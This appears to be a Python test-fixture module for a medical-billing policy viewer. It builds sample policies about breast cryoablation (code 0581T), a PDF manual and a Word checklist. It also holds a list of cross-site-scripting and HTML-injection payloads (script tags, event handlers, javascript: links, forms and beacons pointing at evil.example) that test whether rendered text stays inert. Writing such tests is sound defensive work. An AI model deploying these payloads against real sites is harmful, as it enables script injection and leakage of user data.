"""The small library that the tests of the pages read: its files, and a home made of them."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

from docx import Document as WordDocument
from reportlab.lib.pagesizes import letter
from reportlab.pdfgen import canvas

from ui.jobs.syncing import run_sync
from ui.state.settings import Settings

ARTEFACTS = Path(__file__).resolve().parent.parent / "artefacts"

POLICY = """---
title: "Lakeside Health 77: Cryoablation of the breast"
payer: Lakeside Health
publisher: Lakeside Health
kind: policy
number: "77"
effective: 2025-03-01
source_url: https://lakeside.example/policies/77
---
# Lakeside Health 77: Cryoablation of the breast

## Is prior authorization needed?

Lakeside Health asks for prior authorization before every cryoablation reported with 0581T.
Send the request ten working days before the procedure.

## Which codes does the policy name?

| Code | Position |
|---|---|
| 0581T | covered with authorization |
| 19105 | covered |
"""
RETIRED = """---
title: "Hillcrest Plan 12: Ablation"
payer: Hillcrest Plan
kind: policy
effective: 2020-01-01
retired: 2023-06-30
---
# Hillcrest Plan 12: Ablation

## Is cryoablation covered by Hillcrest?

Hillcrest Plan holds that cryoablation with 0581T is investigational.
"""
GAP = """---
title: "Not known: the MUE of 0581T"
kind: gap
---
# Not known: the MUE of 0581T

## What is the MUE of 0581T?

The MUE of 0581T was found in no source. Open the CMS table of the quarter and look up the code.
"""
PAYLOADS = (  # each would run, load or hide something where text were taken for markup
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<form action="https://evil.example/f"><input name=q><button>go</button></form>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/s.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/m">',
    '<object data="https://evil.example/o"></object>',
    '<embed src="https://evil.example/e">',
    '<video src="https://evil.example/v" autoplay></video>',
    "[press](javascript:document.title='owned')",
    "[data](data:text/html,<script>1</script>)",
    "![beacon](https://evil.example/b.png)",
    "</div></article><h1>forged</h1>",
    ":material/delete: :red[red] :badge[new]",
    "$\\href{javascript:alert(1)}{x}$",
    "<a href=\"javascript:document.title='owned'\">a</a>",
    "<details open ontoggle=\"document.title='owned'\">d</details>",
)
HOSTILE_TITLE = "<script>document.title='owned'</script> ![x](https://evil.example/t.png)"
HOSTILE = (
    f'---\ntitle: "{HOSTILE_TITLE}"\nkind: guide\n'
    'payer: "<b>Evil</b> :red[Plan]"\nsource_url: "javascript:alert(1)"\n---\n'
    """# Zebra surcharge

## What is the zebra surcharge?

The zebra surcharge is <script>document.title='owned'</script> <img src=https://evil.example/a.png>
![beacon](https://evil.example/b.png) [press](javascript:alert(1)) :material/delete: :red[red] $x^2$
<iframe src="https://evil.example/c"></iframe> and nine dollars.

## What is the giraffe surcharge?

The giraffe surcharge is {payloads} and seven dollars.
""".replace("{payloads}", " ".join(PAYLOADS))
)
SENTENCE = "Bill 0581T once per breast, whatever the number of tumors or probes."

GOLDEN = "How many units of 0581T per breast?"


def units_pdf(sentence: str = SENTENCE) -> bytes:
    """A manual of three pages; the sentence stands on the second."""
    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=letter)
    for title, text in (
        ("1. Scope of this manual", "This manual is for the billing office of the hospital."),
        ("2. Units of service", sentence),
        ("3. Appeals", "Appeal a denial within one hundred and twenty days of the notice."),
    ):
        page.setFont("Helvetica-Bold", 16)
        page.drawString(72, 700, title)
        page.setFont("Helvetica", 11)
        page.drawString(72, 670, text)
        page.showPage()
    page.save()
    return out.getvalue()


def checklist_docx() -> bytes:
    out = io.BytesIO()
    word = WordDocument()
    word.add_heading("Documentation checklist", 1)
    word.add_paragraph("The operative note names the probe, the freeze times and the side.")
    word.save(out)
    return out.getvalue()


def make_home(path: Path, models: Path, documents: Path) -> Path:
    """A home with the small library in its own folder, read and published."""
    path.mkdir(parents=True, exist_ok=True)
    (path / "models").symlink_to(models, target_is_directory=True)
    shutil.copytree(documents, path / "library")
    run_sync(Settings(home=path, workers=1), [path / "library"])
    return path
